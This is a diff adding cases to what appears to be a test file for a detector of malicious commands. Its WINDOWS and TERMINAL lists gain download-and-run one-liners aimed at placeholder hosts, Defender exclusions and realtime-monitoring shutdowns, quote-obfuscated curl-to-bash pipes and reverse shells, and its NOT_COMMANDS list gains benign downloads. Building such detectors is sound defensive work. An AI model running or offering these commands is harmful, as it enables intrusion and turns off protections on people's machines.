@@ -74,6 +74,19 @@ const WINDOWS = [
   // Programs the LOLBAS catalogue lists fetching from afar, in its own examples' shapes.
   'esentutl.exe /y \\\\share.example\\tools\\a.exe /d %TEMP%\\a.exe /o',
   'MpCmdRun.exe -DownloadFile -url https://x.example/a.exe -path C:\\Users\\Public\\a.exe',
+  // A scriptlet on disk for regsvr32; PowerShell told to hide its window with nothing after it;
+  // Invoke-RestMethod saving a script.
+  'regsvr32 /s /i:C:\\Users\\x\\a.sct scrobj.dll',
+  'regsvr32 /s a.sct',
+  'powershell -w hidden',
+  'irm https://x.example/a.ps1 -OutFile a.ps1',
+  // Defender told to look away; PowerShell's run word found by a wildcard, or the engine's own.
+  'Add-MpPreference -ExclusionPath C:\\',
+  'powershell -c Set-MpPreference -DisableRealtimeMonitoring $true',
+  '&(gcm i*x)(irm x.example/a)',
+  '$ExecutionContext.InvokeCommand.InvokeScript((irm x.example/a))',
+  // A file of any name run with a script engine named.
+  'wscript.exe //b //e:vbscript C:\\Users\\Public\\a.txt',
   'ieexec.exe https://x.example/a.exe',
   'desktopimgdownldr.exe /lockscreenurl:https://x.example/a.exe /eventName:desktopimgdownldr',
   'extrac32 /Y /C \\\\files.example\\share\\a.exe C:\\Temp\\a.exe',
@@ -111,6 +124,23 @@ const TERMINAL = [
   // A download kept as a script, the stage run next; a shell handed to another machine.
   'curl -s https://x.example/rs.sh -o /tmp/rs.sh',
   'curl -O https://x.example/stage.sh',
+  // … kept by wget under the address's name, or by the shell's own redirection; hidden in memory
+  // or a dot file in /tmp.
+  'wget https://x.example/stage.py',
+  'curl -s https://x.example/a > /tmp/a.sh',
+  'curl -s -o /dev/shm/x https://x.example/x',
+  'wget -q -O /tmp/.cache https://x.example/x',
+  // A download run from a variable, by exec, or as the line's first word in backticks.
+  'x=$(curl -s https://x.example/p) && eval "$x"',
+  'c=$(wget -qO- https://x.example/p); $c',
+  'exec $(curl -s https://x.example/p)',
+  'sudo curl -fsSL https://x.example/a -o /usr/local/bin/a && sudo chmod +x /usr/local/bin/a && a',
+  // Empty strings and quotes a shell drops; the person's own shell, by its variable or through xargs.
+  'cu\'\'rl -s https://x.example/a | ba""sh',
+  '"curl" -s https://x.example/a | "bash"',
+  'curl -s https://x.example/a | $SHELL',
+  'curl -s https://x.example/a | xargs -0 bash -c',
+  '`wget -qO- https://x.example/p`',
   'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
   'nc -e /bin/sh 203.0.113.9 4444',
   // SHub's lure (Unit 42, 2026): an address decoded inside curl's arguments, fed to zsh.
@@ -185,6 +215,11 @@ const NOT_COMMANDS = [
   'C:\\Program Files\\App\\app.exe',
   'echo $(curl -s https://api.example/version)',
   'VERSION=$(curl -s https://api.example/latest | jq -r .tag_name)',
+  'VERSION=$(curl -s https://api.example/latest | jq -r .tag_name); echo $VERSION',
+  'curl -s https://api.example/status > status.json',
+  'Set-MpPreference -EnableNetworkProtection Enabled',
+  'wget -O /tmp/go.tar.gz https://go.dev/dl/go1.22.linux-amd64.tar.gz',
+  'curl -Lo /tmp/kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl',
   // The catalogued programs on local files: what they are for.
   'makecab notes.txt notes.cab',
   'esentutl /mh C:\\Windows\\System32\\LogFiles\\data.edb',
